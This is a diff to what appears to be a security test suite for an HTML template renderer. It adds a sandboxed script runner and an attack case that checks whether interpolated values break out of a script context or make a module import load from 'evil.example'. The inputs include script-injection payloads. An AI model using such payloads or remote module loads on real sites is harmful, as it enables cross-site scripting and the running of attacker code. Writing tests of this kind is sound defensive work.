@@ -34,6 +34,12 @@ const shapeOf = (page: SafeHtml): string =>
 const getsOut = (write: (value: string) => SafeHtml): boolean =>
   PAYLOADS.some((payload) => shapeOf(write(payload)) !== shapeOf(write('x')))
 
+function getsRun(page: SafeHtml): boolean {
+  const context = { hits: 0 }
+  vm.runInNewContext(`function hit() { hits++ }\n${String(page).slice('<script>'.length, -'</script>'.length)}`, context)
+  return context.hits > 0
+}
+
 /** For what the types forbid and a request brings. */
 const untyped = (value: any): any => value
 
@@ -128,6 +134,27 @@ export default [
       const words = ['<script>hit()</script>', '<script\0>hit()</script>', '\0', 'a\0"b']
       const pages = words.map((x) => render(html`<script>a = ${x}</script><p title="${x}">${x}</p>`, { nonce: 'secret' }))
       return pages.some((page) => page.split('secret').length !== 2)
+    },
+  }),
+  defineAttack({
+    id: 'A102g',
+    title: 'is taken for a string where a / in a new line begins a regular expression, or names the module that is loaded',
+    control: 'html',
+    without: HELD,
+    async succeeds() {
+      // Under another name, so that no formatter puts a semicolon where the line ends.
+      const page = html
+      const write = (x: string) => page`<script>let c
+        /"/.test('a'); d = ${x}; e = ""</script>`
+      const load = (x: string) => page`<script type="module">import '${x}'</script>`
+      return [() => getsRun(write('hit()')), () => String(load('//evil.example/a.js')).includes('evil.example')].some((tried) => {
+        try {
+          return tried()
+        } catch (error) {
+          if (error instanceof TypeError) return false
+          throw error
+        }
+      })
     },
   }),
 ]
